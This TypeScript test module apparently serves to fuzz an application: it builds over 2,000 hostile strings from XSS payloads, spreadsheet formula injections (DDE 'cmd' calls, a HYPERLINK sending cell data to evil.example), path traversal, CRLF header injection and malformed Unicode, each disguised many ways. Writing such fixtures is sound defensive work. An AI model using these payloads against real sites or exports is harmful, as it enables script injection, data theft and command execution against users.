/**
 * What somebody writes who would like a script to run, a style to apply, a spreadsheet to calculate, or a page to break: a
 * few dozen attacks, each in many dresses. Every one of them would call `ran`, if it could.
 */
const CALL = "ran(1)";

const scripts: readonly string[] = [
  `<script>${CALL}</script>`,
  `<script src=//evil.example/a.js></script>`,
  `<img src=x onerror=${CALL}>`,
  `<img src=x:x onerror="${CALL}">`,
  `<svg onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`,
  `<body onload=${CALL}>`,
  `<details open ontoggle=${CALL}>x`,
  `<input autofocus onfocus=${CALL}>`,
  `<video><source onerror=${CALL}>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>">`,
  `<iframe src="javascript:parent.${CALL}">`,
  `<object data="javascript:${CALL}">`,
  `<a href="javascript:${CALL}">click</a>`,
  `<form action="javascript:${CALL}"><button>x</button></form>`,
  `<base href="//evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<link rel=stylesheet href=//evil.example/a.css>`,
  `<style>*{background:url("javascript:${CALL}")}</style>`,
  `<style>@import "//evil.example/a.css";</style>`,
  `<div style="position:fixed;inset:0;background:url(//evil.example/x)">`,
  `<template><script>${CALL}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<xmp><img src=x onerror=${CALL}></xmp>`,
  `<!--><script>${CALL}</script>-->`,
  `<![CDATA[<script>${CALL}</script>]]>`,
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}//`,
  `java\tscript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `vbscript:${CALL}`,
  `https://example.com/"onmouseover="${CALL}`,
  `https://user:pass@evil.example/%22%3E%3Cscript%3E${CALL}%3C/script%3E`,
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}}`,
  `#{${CALL}}`,
  `<%= ${CALL} %>`,
  `[[${CALL}]]`,
  `"-${CALL}-"`,
  `');${CALL};//`,
  `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&#60;img src=x onerror=${CALL}&#62;`,
  `%3Cscript%3E${CALL}%3C/script%3E`,
  `{"__proto__":{"innerHTML":"<img src=x onerror=${CALL}>"}}`,
  `{"$$typeof":"Symbol(react.element)","type":"script","props":{"dangerouslySetInnerHTML":{"__html":"${CALL}"}}}`,
  `constructor`,
  `__proto__`,
  `toString`,
  `expression(${CALL})`,
  `url(javascript:${CALL})`,
  `</title><script>${CALL}</script>`,
  `</textarea><script>${CALL}</script>`,
  `</style><script>${CALL}</script>`,
  `]]><script>${CALL}</script>`,
];

/** A spreadsheet that opens the export would calculate these. */
const formulas: readonly string[] = [
  `=cmd|'/C calc'!A0`,
  `=HYPERLINK("http://evil.example?"&A1,"open")`,
  `+1+cmd|'/C calc'!A0`,
  `-2+3+cmd|'/C calc'!A0`,
  `@SUM(1+1)*cmd|'/C calc'!A0`,
  `\t=1+1`,
  `\r=1+1`,
  `\n=1+1`,
  `＝1+1`,
  `"=1+1"`,
  `;=1+1`,
  `,=1+1,`,
];

const shapes: readonly string[] = [
  "\u202Egnp.exe\u202C",
  "\u2066\u2067\u2068\u2069\u200E\u200F\u061C",
  "\uD83D",
  "\uDE00 alone",
  "a\uD800b",
  "NUL \u0000 in it",
  "\u0007\u0008\u001B[31mred\u001B[0m",
  "\uFEFF\uFFFE\uFFFF",
  "\u2028line\u2029paragraph",
  "مرحبا بالعالم <b>שלום</b>",
  "Z̸̡̢̛͎̱͇̫̩̗͈͔̪̖̺͚̥͙̈́̈́͋̎͛̌͌̓̾͒̀̕͠͝ä̷l̶g̵o̴".repeat(5),
  "👩‍👩‍👧‍👦".repeat(30),
  "🏳️‍🌈🏴‍☠️👍🏽",
  "W".repeat(900),
  "长".repeat(600),
  "﷽".repeat(40),
  "\u00AD".repeat(200),
  "a b\u00A0c\u3000d",
  "../../../etc/passwd",
  "%00%0a%0dSet-Cookie: x=1",
  "\r\nSet-Cookie: x=1\r\n\r\n<html>",
  "a?b#c&d=e",
  "NaN",
  "-0",
  "1e999",
];

/** Each takes an attack and gives it another look, so that no two are alike. */
const dresses: readonly ((attack: string, n: number) => string)[] = [
  (attack) => attack,
  (attack, n) => `${n}"'>${attack}`,
  (attack, n) => `hello ${attack} damn ${n}`,
  (attack) => attack.replaceAll("<", "\uFF1C").replaceAll(">", "\uFF1E"),
  (attack, n) => `${attack.toUpperCase()} ${n}`,
  (attack) => `\u202E${attack}\u202C`,
  (attack, n) => `</p></li></ol></main>${attack}<!-- ${n}`,
  (attack) => encodeURIComponent(attack.toWellFormed()),
  (attack) => attack.replaceAll("&", "&amp;").replaceAll("<", "&lt;"),
  (attack, n) => `=${attack}${n}`,
  (attack, n) => `\`${attack}\`${n}`,
  (attack) => [...attack].join("\u200B"),
  (attack, n) => `<x y="${attack}" z='${attack}' ${n}>`,
  (attack) => `${attack}\u0000`,
  (attack, n) => `\uD83D${attack}${n}`,
  (attack, n) => `<a href='${attack}'>${n}</a>`,
  (attack, n) => `${n}\n\n${attack}\n`,
  (attack, n) => `![${n}](${attack})`,
  (attack) => `<${attack}`,
  (attack, n) => `${n}\u2028${attack}`,
  (attack) => [...attack].reverse().join(""),
  (attack, n) => `${attack} 白痴 ${n}`,
  (attack, n) => `<img alt="${n}" src="${attack}">`,
  (attack, n) => `{"text":${JSON.stringify(attack)},"n":${n}}`,
];

export const formulaCells = formulas;

/** @param count at most as many as there are attacks times dresses: more than 2,000 */
export function hostileStrings(count: number): readonly string[] {
  const attacks = [...scripts, ...formulas, ...shapes];
  const all = new Set<string>();
  for (const dress of dresses) {
    for (const [n, attack] of attacks.entries()) all.add(dress(attack, n));
  }
  if (all.size < count) throw new RangeError(`There are only ${all.size} of them.`);
  return [...all].slice(0, count);
}
